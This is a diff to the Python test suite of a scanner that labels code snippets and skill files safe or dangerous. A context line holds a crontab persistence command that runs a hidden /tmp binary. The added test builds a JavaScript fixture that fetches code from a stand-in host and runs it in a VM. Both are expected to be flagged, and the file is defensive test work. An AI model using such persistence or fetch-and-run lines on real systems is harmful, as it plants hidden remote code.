@@ -215,3 +215,13 @@ def test_batch4_shapes_of_benign_skills(tmp_path: Path, name: str) -> None:
 def test_a_cron_line_that_runs_from_tmp_is_still_dangerous(tmp_path: Path) -> None:
     report = scanned(tmp_path, "# Keep alive\n\n```bash\n(crontab -l; echo '*/5 * * * * /tmp/.k/run') | crontab -\n```\n")
     assert report.verdict == "dangerous", report.findings
+
+
+def test_a_stand_in_fetch_defined_by_a_test_is_not_a_download(tmp_path: Path) -> None:
+    test_js = ("import vm from 'node:vm';\nimport fs from 'node:fs';\nconst code = fs.readFileSync('page.html', 'utf8');\n"
+               "const context = vm.createContext({\n  fetch(_url, options) {\n    return Promise.resolve({ ok: true });\n"
+               "  },\n});\nvm.runInContext(code, context);\n")
+    assert scanned(tmp_path, STEPS, {"tests/page.test.mjs": test_js}).verdict == "safe"
+    real = test_js.replace("const code = fs.readFileSync('page.html', 'utf8');",
+                           "const code = await (await fetch('https://cdn.example/p.js')).text();")
+    assert scanned(tmp_path / "real", STEPS, {"tests/page.test.mjs": real}).verdict == "dangerous"
